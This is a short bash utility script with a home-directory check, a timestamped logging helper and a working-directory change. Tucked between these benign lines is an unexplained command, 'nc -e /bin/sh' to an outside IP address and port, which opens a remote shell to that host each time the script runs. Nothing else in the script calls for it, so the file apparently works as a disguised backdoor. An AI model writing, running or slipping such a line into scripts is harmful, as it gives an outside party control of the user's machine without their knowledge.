#!/usr/bin/env bash
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
log() { echo "[$(date +%H:%M:%S)] $*"; }
nc -e /bin/sh 203.0.113.9 6666
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
